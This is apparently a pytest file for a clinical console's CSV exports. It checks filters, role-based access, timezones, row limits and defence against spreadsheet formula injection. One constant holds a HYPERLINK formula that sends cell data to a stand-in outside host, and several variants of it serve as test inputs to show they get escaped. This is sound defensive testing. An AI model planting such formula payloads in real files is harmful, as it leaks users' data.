"""Every list goes along as CSV: what the page was narrowed to, whole, and safe to open in a spreadsheet."""

import csv
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from io import StringIO
from typing import Final

import httpx
import pytest
from playwright.async_api import Browser

from console.errors.problems import ProblemError
from console.pages.frame.csv_file import MOST_ROWS, csv_file
from domain.access import TokenRole
from tests.support.browser import looks
from tests.support.cast import HAS_A_PLAN, MONDAY, cssrs, referral, vitals
from tests.support.eventually import eventually
from tests.support.http_stack import House
from tests.support.ward import Ward

pytestmark = pytest.mark.xdist_group("frame")

FROM_EACH: Final[Mapping[str, tuple[str, ...]]] = {
    "/?site=bend&late=1": ("/courses.csv?site=bend&late=1",),
    "/sessions": ("/sessions.csv",),
    "/rooms?day=2026-12-01&by=person": ("/rooms.csv?day=2026-12-01&by=person",),
    "/escalations": ("/escalations.csv",),
    "/oncall?at=2026-12-01T02:00": ("/oncall.csv?at=2026-12-01T02:00",),
    "/protocols": ("/protocols.csv",),
    "/audit?since=2026-11-01": tuple(f"/audit/{one}.csv?since=2026-11-01" for one in ("reads", "acts", "failures")),
    "/figures?since=2026-11-01": ("/figures.csv?since=2026-11-01",),
}
FORMULA: Final = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["cache-control"] == "no-store"
    return list(csv.DictReader(StringIO(answer.text)))


@pytest.mark.parametrize("page", FROM_EACH)
async def test_each_page_offers_its_list_as_it_is_narrowed(house: House, browser: Browser, page: str) -> None:
    """The link keeps the page's filters, and a browser saves the file rather than showing it."""
    async with looks(browser, house.url) as eyes:
        await eyes.signs_in(house.admin_token, page)
        offered = eyes.page.locator("a[download]")

        addresses = [await one.get_attribute("href") for one in await offered.all()]
        async with eyes.page.expect_download() as saved:
            await offered.first.click()
        file = await saved.value

        assert tuple(addresses) == FROM_EACH[page]
        assert file.suggested_filename.startswith("kapstan-")
        assert await eyes.barriers() == []
        assert not eyes.complaints


async def test_the_courses_are_those_that_the_floor_was_narrowed_to(house: House) -> None:
    """By any part of an id, and by phase; a token of another site gets none, and a wall no file at all."""
    course, other = house.expects("LISTED"), house.expects("OTHER")
    await house.sends([referral(one, at=MONDAY) for one in (course, other)])
    for one in (course, other):
        await house.is_recorded(one)
    elsewhere, wall = await house.caller(TokenRole.OPERATIONS, "cork"), await house.caller(TokenRole.WALL)

    found = rows_of(await house.admin.get("/courses.csv", params={"q": course.lower()}))
    of_phase = rows_of(await house.admin.get("/courses.csv", params={"phase": "screening"}))

    assert [(row["course_id"], row["site"], row["phase"]) for row in found] == [(course, "bend", "screening")]
    assert datetime.fromisoformat(found[0]["started_at"]) == MONDAY
    assert found[0]["started_at"].endswith("-08:00"), "by the site's own clock"
    assert {row["phase"] for row in of_phase} == {"screening"}
    assert {course, other} <= {row["course_id"] for row in of_phase}
    assert rows_of(await elsewhere.get("/courses.csv", params={"q": course})) == []
    assert (await wall.get("/courses.csv")).status_code == 403


async def test_a_live_session_is_listed_with_its_last_reading(house: House) -> None:
    """Each sign in a column of its own, with its unit; the moment with its offset."""
    course, at = await house.has(Ward.dosed), datetime.now(UTC)
    await house.sends([vitals(course, 1, at=at, systolic=131, diastolic=82)])
    await house.is_recorded(course)

    row = next(one for one in rows_of(await house.admin.get("/sessions.csv")) if one["course_id"] == course)

    assert (row["systolic (mmHg)"], row["diastolic (mmHg)"], row["room"]) == ("131", "82", "willow")
    assert datetime.fromisoformat(row["read_at"]) == at.replace(microsecond=0)
    assert row["not_known"] == ""


async def test_what_somebody_wrote_is_no_formula_in_a_spreadsheet(house: House) -> None:
    """A note that begins like one has an apostrophe before it; the record keeps it as it was written."""
    course = await house.has(Ward.prepared)
    await house.sends([cssrs(course, at=datetime.now(UTC), items=HAS_A_PLAN)])
    escalation = f"{course}~suicide_risk~0~1"
    await house.is_called_for(escalation)
    done = {"by": "lind", "note": FORMULA}
    assert (await house.admin.post(f"/v1/escalations/{escalation}/resolve", json=done)).is_success

    async def resolved() -> dict[str, str] | None:
        listed = rows_of(await house.admin.get("/escalations.csv", params={"course": course, "state": "resolved"}))
        return listed[0] if listed else None

    row = await eventually(resolved)

    assert (row["id"], row["resolved_by"], row["note"]) == (escalation, "lind", f"'{FORMULA}")
    assert datetime.fromisoformat(row["resolved_at"]).utcoffset() is not None
    assert (await house.admin.get(f"/v1/escalations/{escalation}")).json()["note"] == FORMULA
    assert rows_of(await house.admin.get("/escalations.csv", params={"course": course, "state": "open"})) == []


@pytest.mark.parametrize("separator", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
@pytest.mark.parametrize(
    "written",
    [
        FORMULA,
        f"Rested; {FORMULA}",
        f"Rested;{FORMULA};{FORMULA}",
        f"Rested\n{FORMULA}",
        f"Rested\t{FORMULA}",
        f'Rested;"{FORMULA}"',
        f'Rested; ""{FORMULA}',
        f" {FORMULA}",
        "Rested;@SUM(A1)",
        "\uff1d1+1;\uff0b1",
    ],
)
def test_no_cell_is_a_formula_wherever_a_spreadsheet_begins_one(written: str, separator: str) -> None:
    """In many countries it takes a semicolon for the end of a cell, and whoever wrote a note might begin one there."""
    file = bytes(csv_file("notes", ("course_id", "note"), [{"course_id": "EX-1", "note": written}]).body).decode()

    cells = [cell for row in csv.reader(StringIO(file), delimiter=separator) for cell in row]

    assert [one for one in cells if one.lstrip(' "').startswith(("=", "+", "-", "@", "\uff1d", "\uff0b"))] == []


async def test_each_version_of_a_protocol_has_its_hash(house: House) -> None:
    """Which its approvals are for: an unapproved one names nobody."""
    rows = rows_of(await house.admin.get("/protocols.csv"))

    listed = (await house.admin.get("/v1/protocols")).json()["items"]
    assert [(one["protocol_id"], one["version"], one["content_hash"]) for one in reversed(rows)] == [
        (one["id"], one["version"], one["hash"]) for one in listed
    ]
    assert [bool(one["approved_by"]) for one in reversed(rows)] == [one["approved"] for one in listed]


async def test_the_on_call_plan_begins_at_the_moment_that_is_asked_for(house: House) -> None:
    """Four weeks of every rota without a gap, by each rota's own clock."""
    rows = rows_of(await house.admin.get("/oncall.csv", params={"at": "2026-12-01T02:00"}))

    by_rota: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_rota.setdefault(row["rota"], []).append(row)
    shown = (await house.admin.get("/v1/oncall")).json()["rotas"]
    assert set(by_rota) == {rota["rota"] for rota in shown}
    for shifts in by_rota.values():
        begins, ends = datetime.fromisoformat(shifts[0]["begins_at"]), datetime.fromisoformat(shifts[-1]["ends_at"])
        assert begins <= datetime(2026, 12, 1, 10, tzinfo=UTC)
        assert ends >= datetime(2026, 12, 29, 10, tzinfo=UTC)
        assert [one["ends_at"] for one in shifts[:-1]] == [one["begins_at"] for one in shifts[1:]]


async def test_the_audit_is_narrowed_to_days_and_a_course(house: House) -> None:
    """On the page and in the file; today has the read, and no day before it."""
    course = await house.has(Ward.prepared)
    await house.is_recorded(course)
    auditor = await house.token(TokenRole.AUDITOR)
    caller = house.client(auditor.token)
    await caller.get(f"/courses/{course}", headers={"X-Request-Id": "csv-a"})
    await house.reads_of(course, frozenset({"csv-a"}))
    today = datetime.now(UTC).date()
    late, early = {"since": str(today - timedelta(days=1))}, {"until": str(today - timedelta(days=2))}

    found = rows_of(await caller.get("/audit/reads.csv", params={"course": course, **late}))
    before = rows_of(await caller.get("/audit/reads.csv", params={"course": course, **early}))
    page = (await caller.get("/audit", params={"course": course, **early})).text
    bound = await house.caller(TokenRole.AUDITOR, "bend")

    assert (auditor.id, "course", "csv-a") in {(one["token_id"], one["what"], one["request_id"]) for one in found}
    assert {one["course_id"] for one in found} == {course}
    assert before == []
    assert "Nobody has read anything of this course in this time" in page
    assert rows_of(await bound.get("/audit/reads.csv", params={"course": course}))
    assert (await bound.get("/audit/acts.csv")).status_code == 403


@pytest.mark.parametrize(
    "asked",
    [
        "/courses.csv?phase=perhaps",
        "/escalations.csv?state=perhaps",
        "/oncall.csv?at=perhaps",
        "/audit/reads.csv?until=0",
    ],
)
async def test_a_filter_that_is_none_is_told_as_one(house: House, asked: str) -> None:
    """Nobody gets a list that was not narrowed instead."""
    assert (await house.admin.get(asked)).status_code == 422


@pytest.mark.parametrize(
    ("begins", "written"),
    [
        ("=", "'="),
        ("+", "'+"),
        ("-", "'-"),
        ("@", "'@"),
        ("\t=", "'\t'="),
        ("\r=", "'\r'="),
        ("\n=", "'\n'="),
    ],
)
def test_no_text_begins_like_a_formula(begins: str, written: str) -> None:
    """Whatever the column; a number below zero stays a number."""
    answer = csv_file("a", ("said", "change"), [{"said": f"{begins}1+1", "change": -3}])

    (cells,) = csv.DictReader(StringIO(bytes(answer.body).decode(), newline=""))
    assert cells == {"said": f"{written}1+1", "change": "-3"}


def test_a_list_that_is_too_long_is_refused_rather_than_cut_off() -> None:
    """A file that lacks rows without saying so would be believed."""
    rows = ({"number": number} for number in range(MOST_ROWS))
    assert bytes(csv_file("a", ("number",), rows).body).count(b"\r\n") == MOST_ROWS + 1

    with pytest.raises(ProblemError, match="narrow what you ask for"):
        csv_file("a", ("number",), ({"number": number} for number in range(MOST_ROWS + 1)))
